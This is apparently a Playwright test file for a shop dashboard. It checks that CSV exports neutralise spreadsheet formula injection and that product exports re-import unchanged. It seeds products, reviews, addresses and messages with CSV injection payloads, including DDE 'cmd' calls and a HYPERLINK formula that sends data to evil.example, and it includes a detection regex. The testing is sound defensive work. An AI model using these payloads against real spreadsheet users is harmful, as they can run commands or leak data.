import { readFile } from 'node:fs/promises';
import type { APIRequestContext, Page } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { imports } from '#wording/dashboard/imports.ts';
import { list } from '#wording/dashboard/list.ts';
import { bookkeeping } from '#wording/dashboard/orders.ts';
import { dashboardOf } from './dashboard.ts';
import { accessible, address, ask, buy, expect, newAccount, test } from './fixtures.ts';

/** What spreadsheets would run, or send elsewhere; and what must come back from a file as it was. */
const formulas = [
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  '@SUM(1+9)*cmd',
  '=HYPERLINK("http://evil.example/?x="&A1,"a")',
  '=1+1;=1+1',
  `'=1+1`,
  '＝1+1',
  '"=1+1"',
  'plain;=1+1',
];

/** Where there may be several lines, also behind what some programs end a cell at. */
const lines = [...formulas, 'a\t=2+2', '\t=3+3'].join('\n');

/** The cells of a file that the page hands over when that button is pressed. */
async function fileOf(page: Page, button: string | RegExp): Promise<{ path: string; cells: string[][] }> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: button }).click(),
  ]);
  const path = await download.path();
  const text = await readFile(path, 'utf8');
  return { path, cells: parse(text, { bom: true, relax_column_count: false }) };
}

/** What is neither a number nor text that no program takes for a formula. */
const dangerous = (cells: string[][]) =>
  cells.flat().filter((cell) => /^\s*[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

/** Products, a shopper, an order, a review, a message, a code and what staff did with them, all named like formulas. */
async function hostileShop(page: Page, office: APIRequestContext, mark: string) {
  const { data } = await ask(office, '/getProducts', { catagory: 'attachments' });
  const ids: string[] = [];
  for (const formula of formulas) {
    const { id } = await ask(office, '/submitProduct', {
      title: `${formula} ${mark}`,
      description: `${formula}\n${formula}\nand nothing else`,
      feature1: formula,
      price: 30,
      catagory: 'attachments',
      quantity: 5,
      img1: data[0]?.img1 ?? '',
    });
    ids.push(id);
  }
  const email = await newAccount(page.request);
  const name = `${formulas[0]} ${mark}`;
  const where = { phone: '+447700900123', address: lines, city: '@SUM(1)', pinCode: '=1+1' };
  await ask(page.request, '/newAddress', { email, ...address, name, ...where });
  await ask(page.request, '/updateUserName', { email, name });
  const [id = ''] = ids;
  const orderId = await buy(page, email, { id, title: 'x', price: 30 });
  await ask(page.request, '/new-review', { productId: id, email, stars: 5, review: lines });
  const { data: reviews } = await ask(office, '/dash-reviews', { productId: id });
  await ask(office, '/dash-reply-review', { id: reviews[0]?.id ?? 0, reply: lines });
  await ask(office, '/dash-hide-review', { id: reviews[0]?.id ?? 0, reason: formulas[1] ?? '' });
  await ask(page.request, '/newContact', {
    type: 'other',
    name: '=1+1 Formula',
    email: '=1+1@example.org',
    phone: '+44 7700 900123',
    message: lines,
  });
  await ask(page.request, '/subNewsLetter', { email: '=1+1@example.org' });
  const code = `=${mark}`;
  await ask(office, '/new-code', { code, productId: 'all', type: 'flat', flat: 1, min: 0 });
  return { ids, email, name, orderId, code };
}

test('no file that staff take along holds a formula, and products come back from theirs as they were', async ({
  page,
  office,
}) => {
  test.setTimeout(120_000);
  const mark = `formula${Date.now().toString(36)}`;
  const { ids, email, name, code } = await hostileShop(page, office, mark);
  const { open } = await dashboardOf(page);
  const readProduct = (id: string) => ask(office, '/dash-product-details', { id });
  const before = await Promise.all(ids.map(readProduct));
  const find = `?find=${mark}`;
  const user = `/user-details/${encodeURIComponent(name)}/${encodeURIComponent(email)}`;

  const lists = [
    '/users',
    user,
    `/orders?find=${email}`,
    `/audit${find}`,
    '/reviews',
    '/messages',
    '/coupens',
    '/newsletter',
  ];
  for (const path of lists) {
    await open(path);
    const { cells } = await fileOf(page, list.export);
    expect(dangerous(cells), path).toEqual([]);
    expect(cells.flat().filter((cell) => /^'[=+\-@]/.test(cell)).length, `some in ${path}`).toBeGreaterThan(
      0,
    );
  }

  await test.step('for the accountant', async () => {
    await open(`/orders?find=${email}`);
    await page.getByRole('button', { name: bookkeeping.open }).click();
    for (const [button, cell] of [
      [bookkeeping.orders(1), `'${name}`],
      [bookkeeping.lines(1), `'${formulas[0]} ${mark}`],
    ] as const) {
      const { cells } = await fileOf(page, button);
      expect(dangerous(cells)).toEqual([]);
      expect(cells.flat()).toContain(cell);
    }
  });

  await test.step('products, there and back', async () => {
    await open(`/products${find}`);
    const { path, cells: exported } = await fileOf(page, list.export);
    expect(exported).toHaveLength(formulas.length + 1);
    expect(dangerous(exported)).toEqual([]);
    await open('/import');
    const file = page.getByLabel(imports.choose);
    await file.setInputFiles(path);
    await expect(page.getByText(imports.nothingText(formulas.length))).toBeVisible({ timeout: 20_000 });
    const dearer = (await readFile(path, 'utf8')).replaceAll(
      /,attachments,(.*\n.*\n[^\n]*?),30,/g,
      ',attachments,$1,31,',
    );
    await file.setInputFiles({ name: 'dearer.csv', mimeType: 'text/csv', buffer: Buffer.from(dearer) });
    await expect(page.getByText(imports.counts(0, formulas.length, 0))).toBeVisible({ timeout: 20_000 });
    const cells = page.getByRole('table', { name: imports.changes }).getByRole('row');
    await expect(cells).toHaveCount(formulas.length + 1);
    await expect(cells.nth(1)).toContainText(/price\s*30\.00\s*31\.00/);
    await accessible(page);
    await page.getByRole('button', { name: imports.submit(formulas.length) }).click();
    await expect(page.getByText(imports.done, { exact: true })).toBeVisible({ timeout: 20_000 });
    const after = await Promise.all(ids.map(readProduct));
    const told = (all: typeof before, price: number) =>
      all.map(({ data: [{ version: _version, ...rest }] }) => ({ ...rest, price }));
    expect(after.map(({ data: [{ price }] }) => price)).toEqual(ids.map(() => 31));
    expect(told(after, 30)).toEqual(told(before, 30));
  });

  await ask(office, '/delete-coupen', { code });
});
